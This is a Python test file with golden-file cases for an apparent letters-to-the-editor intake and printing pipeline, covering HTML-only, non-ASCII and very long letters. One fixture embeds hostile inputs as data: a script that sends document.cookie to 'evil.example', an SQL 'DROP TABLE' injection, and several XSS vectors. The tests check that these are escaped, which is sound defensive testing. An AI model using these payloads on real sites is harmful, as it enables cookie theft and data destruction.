"""Hard inputs, from the email as it arrives to every printed format: golden files.

Each case is a whole message (parsed by intake.mail.parse, as inbound does), so the
goldens cover HTML-to-text, header decoding and the clean-up as well as the
templates: an HTML-only letter, non-ASCII names everywhere, a very long letter,
and letters carrying script tags in their text and in their HTML.
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from email.headerregistry import Address
from email.message import EmailMessage
from pathlib import Path

import pytest

from intake.mail.parse import parse_message
from intake.printing.housestyle import HouseStyle
from intake.printing.printview import PairView, PrintInput, pair_view
from intake.printing.render import PAIR_FORMATS, Renderer

REPO = Path(__file__).resolve().parents[3]
LETTERS = REPO / "tests" / "data" / "mail" / "letter"

Golden = Callable[[str, str], None]


@pytest.fixture(scope="module")
def renderer() -> Renderer:
    return Renderer(REPO / "templates")


def _message(name: str, address: str, subject: str, text: str = "", html: str = "") -> bytes:
    msg = EmailMessage()
    msg["From"] = Address(display_name=name, addr_spec=address)
    msg["To"] = "letters@news.test"
    msg["Subject"] = subject
    msg["Message-ID"] = f"<{abs(hash(subject)) % 10**8}.hard@example.org>"
    if text:
        msg.set_content(text)
        if html:
            msg.add_alternative(html, subtype="html")
    else:
        msg.set_content(html, subtype="html")
    return msg.as_bytes()


def view_of(
    raw: bytes, *, letter_id: int, title: str, author: str, response: str | None
) -> PairView:
    mail = parse_message(raw)
    assert mail.sender is not None
    return pair_view(
        PrintInput(
            letter_id=letter_id,
            article_title=title,
            article_url=f"https://www.news.test/articles/{letter_id}/",
            author_name=author,
            writer_name=mail.sender.name,
            letter_text=mail.text,
            response_text=response,
            published_on="2026-12-03",
            publication="The Nation",
        ),
        HouseStyle(),
    )


def html_only() -> PairView:
    raw = (LETTERS / "html_only.eml").read_bytes()
    return view_of(raw, letter_id=31, title="Cycling to Work in Winter", author="Priya Raman",
                   response="The figures are welcome; we will return to the junction.")  # fmt: skip


def non_ascii() -> PairView:
    letter = (
        "Szanowna Redakcjo,\n\n"
        "Małgorzata Żółkiewska’s report on the Łódź tram depot was fair to the\n"
        "drivers but not to the mechanics, who kept the fleet running through\n"
        "the winter of 2025. Ærøskøbing and Göteborg both solved this by\n"
        "training mechanics on the new cars first; Łódź did the opposite.\n\n"
        "Z poważaniem,\n"
        "Søren Ødegård-Nuñez\n"
        "Łódź\n"
    )
    raw = _message("Søren Ødegård-Nuñez", "soren@example.org", "Tramwaje w Łodzi", text=letter)
    return view_of(raw, letter_id=32, title="Łódź’s Trams Run on Goodwill",
                   author="Małgorzata Żółkiewska", response="Dziękuję. He is right about Göteborg.")  # fmt: skip


# Sentences for the long letter, each written for this test; the letter cycles
# through them with a running number so that no paragraph repeats another.
_LONG_SENTENCES = (
    (
        "The council's figures for the ring road, which your reporter quoted in full, count cars"
        " that were never in the model."
    ),
    "The saving therefore looks larger than it is.",
    (
        "I sat on the consultation panel for two years and asked for the raw counts at every"
        " meeting; they were promised and never arrived."
    ),
    "A road that moves traffic from one street to the next is not a bypass.",
    "A scheme that closes two bus lanes to open one car lane is not a transport plan.",
    "Nobody on the panel was shown the air-quality study -- not once.",
)


def long_letter_text(paragraphs: int = 40) -> str:
    """A letter of about 2,800 words, hard-wrapped at 72 columns as a mail client sends it."""
    lines = ["Dear Editor,", ""]
    for number in range(1, paragraphs + 1):
        prose = " ".join(_LONG_SENTENCES[(number + k) % 6] for k in range(4))
        lines.extend(textwrap.wrap(f"Point {number}. {prose}", width=72))
        lines.append("")
    lines += ["Yours faithfully,", "Harriet Quell", "Chair, Eastside Residents' Forum",
              "14 Orchard Lane", "Tel. 0161 496 0871", "Eastleigh"]  # fmt: skip
    return "\n".join(lines) + "\n"


def very_long() -> PairView:
    raw = _message("Harriet Quell", "hq@example.org", "The ring road", text=long_letter_text())
    return view_of(raw, letter_id=33, title="The Ring Road Will Pay for Itself", author="Tom Ash",
                   response=None)  # fmt: skip


def script_tags() -> PairView:
    text = (
        "Dear Editor,\n\n"
        "Your headline <script>document.location='https://evil.example/?c='+document.cookie"
        "</script> was unfair.\n\n"
        "Sincerely,\n"
        "Robert'); DROP TABLE letter;-- <svg onload=alert(1)>\n"
    )
    html = (
        "<html><head><script>steal()</script><style>p{}</style></head><body>"
        "<p>Dear Editor,</p><p>Your headline was unfair."
        '<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">read</a></p>'
        "<p>Sincerely,<br>Robert Tables</p></body></html>"
    )
    raw = _message("<script>alert('name')</script> Tables", "bobby@example.org",
                   "Headlines", text=text, html=html)  # fmt: skip
    return view_of(raw, letter_id=34, title="<img src=x onerror=alert('title')>",
                   author="<b onmouseover=alert(1)>Ed</b>",
                   response="<iframe src=javascript:alert(3)></iframe>We stand by it.")  # fmt: skip


def script_tags_html_only() -> PairView:
    html = (
        "<html><body><p>Dear Editor,</p>"
        "<p>The piece on phones was wrong.<script>alert('body')</script></p>"
        "<p onclick=\"alert(1)\">It ignored <a href='javascript:alert(1)'>the survey</a>.</p>"
        "<p>Regards,<br>Ines Ortega</p></body></html>"
    )
    raw = _message("Ines Ortega", "ines@example.org", "Phones", html=html)
    return view_of(raw, letter_id=35, title="Phones", author="Kim Park", response=None)


CASES = {
    "html_only": html_only,
    "non_ascii_names": non_ascii,
    "very_long": very_long,
    "script_tags": script_tags,
    "script_tags_html_only": script_tags_html_only,
}


@pytest.mark.parametrize("fmt", PAIR_FORMATS)
@pytest.mark.parametrize("case", sorted(CASES))
def test_hard_input_golden(renderer: Renderer, golden: Golden, case: str, fmt: str) -> None:
    golden(renderer.pair(CASES[case](), fmt), f"publish/hard_{case}.{fmt}")


def test_the_html_only_letter_reads_as_its_paragraphs() -> None:
    view = html_only()

    assert len(view.letter_paragraphs) == 3
    assert view.letter_paragraphs[0].startswith("Your report on the Station Road cycle lanes")
    assert view.signature == ("Sam Oduya", "Northgate")
    assert view.town == "Northgate"


def test_non_ascii_names_survive_headers_and_body() -> None:
    view = non_ascii()

    assert view.signature == ("Søren Ødegård-Nuñez", "Łódź")
    assert view.dek == "A response from Søren Ødegård-Nuñez about ‘Łódź’s Trams Run on Goodwill’."
    assert view.responds == "Małgorzata Żółkiewska responds:"
    assert len(view.letter_paragraphs) == 1  # Polish greeting and sign-off left out


def test_the_very_long_letter_keeps_every_paragraph_and_no_contact_line() -> None:
    view = very_long()

    assert len(view.letter_paragraphs) == 40
    assert all(p.startswith(f"Point {n}. ") for n, p in enumerate(view.letter_paragraphs, 1))
    assert view.signature == ("Harriet Quell", "Chair, Eastside Residents' Forum", "Eastleigh")
    assert view.town == "Eastleigh"


@pytest.mark.parametrize("case", ["script_tags", "script_tags_html_only"])
def test_script_letters_print_no_markup(renderer: Renderer, case: str) -> None:
    html = renderer.pair(CASES[case](), "html").lower()

    assert "<script" not in html and "<svg" not in html and "<iframe" not in html
    assert "<img" not in html and "<a " not in html
    assert " onerror=" not in html.replace("onerror=alert", "")  # only as escaped text
    assert 'href="javascript' not in html
